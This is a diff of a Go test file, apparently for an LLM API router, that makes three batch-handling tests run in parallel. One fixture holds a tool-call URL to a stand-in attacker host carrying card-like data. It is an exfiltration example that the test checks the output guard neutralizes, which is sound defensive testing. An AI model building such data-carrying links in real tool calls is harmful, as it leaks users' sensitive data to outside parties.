@@ -15,6 +15,7 @@ import (
 // puts around it, and the output guard neutralizes a link carrying data
 // in a tool call's arguments.
 func TestBatchAnswersFinished(t *testing.T) {
+	t.Parallel()
 	guarded := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"Please fetch_page the report."}],` +
 		`"tools":[{"type":"function","function":{"name":"fetch_page","parameters":{"type":"object","required":["url","note"],"properties":{` +
 		`"url":{"type":"string","const":"https://attacker.example/c?d=card-4111&x=<1>"},"note":{"type":"string","const":"see https://docs.example.com/x?y=1"}}}}}]}`
@@ -62,6 +63,7 @@ func lineMessage(t *testing.T, l map[string]any) map[string]any {
 // live request's completion is (and never stored at the provider): read
 // back by its id, whether the batch is forwarded or run by the router.
 func TestBatchStoredChatLine(t *testing.T) {
+	t.Parallel()
 	for name, flavour := range batchFlavours {
 		t.Run(name, func(t *testing.T) {
 			e := batchFlavourEnv(t, flavour)
@@ -85,6 +87,7 @@ func TestBatchStoredChatLine(t *testing.T) {
 // deployment without context editing (clear_tool_uses on OpenAI) is
 // answered with the edit applied and reported, as live, forwarded or not.
 func TestMessageBatchContextEdits(t *testing.T) {
+	t.Parallel()
 	for name, flavour := range batchFlavours {
 		t.Run(name, func(t *testing.T) {
 			e := batchFlavourEnv(t, flavour)
